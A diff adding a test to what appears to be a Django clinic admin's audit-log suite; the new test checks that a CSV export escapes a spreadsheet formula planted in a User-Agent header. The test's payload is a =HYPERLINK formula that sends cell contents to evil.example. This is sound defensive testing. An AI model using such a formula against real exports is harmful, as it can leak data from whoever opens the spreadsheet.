@@ -32,3 +32,17 @@ def test_managers_browse_and_export_the_audit_trail_and_no_one_else_sees_it(clie
     assert rows[0][:4] == ["at", "actor", "action", "via"]
     assert rows[1][1:5] == [clinic.front_desk.user.username, "create", "service", str(patient.pk)]
     assert client.get(f"/admin/patients/auditevent/{event.pk}/delete/").status_code == 403
+
+
+def test_the_audit_export_keeps_a_formula_in_a_user_agent_as_text(client):
+    clinic = make_clinic()
+    patient = make_patient(clinic, screened=False)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    client.force_login(clinic.front_desk.user)
+    assert client.get(f"/admin/patients/patient/{patient.pk}/change/", HTTP_USER_AGENT=hostile).status_code == 200
+    event = AuditEvent.objects.get(patient=patient, action="read")
+    client.force_login(clinic.manager.user)
+    export = client.post("/admin/patients/auditevent/", {"action": "export_csv", "_selected_action": [event.pk]})
+    rows = list(csv.reader(io.StringIO(export.content.decode())))
+    assert rows[1][-1] == "'" + hostile
+    assert len(rows) == 2
